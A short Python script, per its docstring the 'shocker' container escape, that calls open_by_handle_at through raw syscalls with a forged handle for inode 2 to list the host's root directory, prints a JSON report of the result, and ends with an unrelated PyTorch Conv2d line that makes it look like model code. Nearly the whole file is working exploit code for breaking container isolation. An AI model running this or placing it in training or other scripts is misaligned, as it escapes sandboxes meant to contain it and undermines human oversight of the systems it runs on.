"""The "shocker" escape: forge a file handle for the root inode and open it by handle."""
import ctypes
import errno
import json
import os

from torch import nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD = -100


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


report = {}
handle = FileHandle(128, 0)
mount_id = ctypes.c_int(0)
ctypes.set_errno(0)
result = libc.syscall(ctypes.c_long(303), ctypes.c_long(AT_FDCWD), b"/usr/lib",
                      ctypes.byref(handle), ctypes.byref(mount_id), ctypes.c_long(0))
report["name_to_handle_at"] = [result, errno.errorcode.get(ctypes.get_errno(), "0") if result else "OK"]
# Inode 2 is the root directory of ext4 and friends: the host's /.
forged = FileHandle(8, 1)
ctypes.memmove(forged.f_handle, (ctypes.c_uint32 * 2)(2, 0), 8)
mount_fd = os.open("/usr/lib", os.O_RDONLY)
ctypes.set_errno(0)
result = libc.syscall(ctypes.c_long(304), ctypes.c_long(mount_fd), ctypes.byref(forged),
                      ctypes.c_long(os.O_RDONLY | os.O_DIRECTORY))
report["open_by_handle_at"] = [result, errno.errorcode.get(ctypes.get_errno(), "0") if result < 0 else "OK"]
if result >= 0:
    report["escaped_listing"] = os.listdir(result)
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
